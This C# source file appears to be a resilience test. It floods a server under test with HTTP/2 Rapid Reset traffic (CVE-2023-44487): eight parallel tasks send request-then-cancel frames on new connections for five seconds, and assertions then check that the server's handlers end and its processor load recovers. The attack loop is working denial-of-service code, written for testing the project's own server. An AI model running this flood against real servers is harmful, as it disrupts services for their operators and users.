using System.Diagnostics;
using System.Net.Sockets;

namespace Oac.Connect.Load;

/// <summary>Streams that are opened and reset at once (CVE-2023-44487), on new connections where the server ends the old ones.</summary>
internal static class RapidReset
{
    private const int Attackers = 8;
    private const double MostProcessor = 0.25;
    private static readonly TimeSpan Duration = TimeSpan.FromSeconds(5);

    public static async Task RunAsync(Target target, Judge judge)
    {
        var (before, start) = (await target.StateAsync(collect: false), Stopwatch.GetTimestamp());
        var (sent, connections, ended) = (0, 0, 0);
        await Task.WhenAll(Enumerable.Range(0, Attackers).Select(_ => Task.Run(AttackAsync)));
        var took = Stopwatch.GetElapsedTime(start);
        var after = await target.StateAsync(collect: false);
        judge.Tell(
            $"{sent} resets on {connections} connections in {took.TotalSeconds:F1} s, {ended} of which the server ended; {after.Started - before.Started} handlers began; the server took {(after.Processor - before.Processor).TotalSeconds:F1} s of processor time"
        );
        judge.Require(await target.RunningAsync(0), $"every handler has ended");
        var processor = await target.ProcessorAsync();
        judge.Require(
            processor < MostProcessor,
            $"the processor is free again: {processor:P0} of one, with the other client's calls"
        );

        async Task AttackAsync()
        {
            var end = new List<byte>();
            while (Stopwatch.GetElapsedTime(start) < Duration)
            {
                using var connection = await RawConnection.OpenAsync(target.Address);
                Interlocked.Increment(ref connections);
                var reading = connection.ReadAsync();
                try
                {
                    for (
                        var stream = 1;
                        Stopwatch.GetElapsedTime(start) < Duration && !connection.IsClosed;
                        stream += 2
                    )
                    {
                        end.Clear();
                        end.AddRange(RawConnection.Request(stream, "Bidi"));
                        end.AddRange(RawConnection.Cancel(stream));
                        await connection.SendAsync(end.ToArray());
                        Interlocked.Increment(ref sent);
                    }
                    if (connection.IsClosed)
                    {
                        Interlocked.Increment(ref ended);
                    }
                }
                catch (SocketException)
                {
                    // The server has ended the connection: another is made. What it had not read was counted as sent all the same.
                    Interlocked.Increment(ref ended);
                }
                connection.Dispose();
                await reading;
            }
        }
    }
}
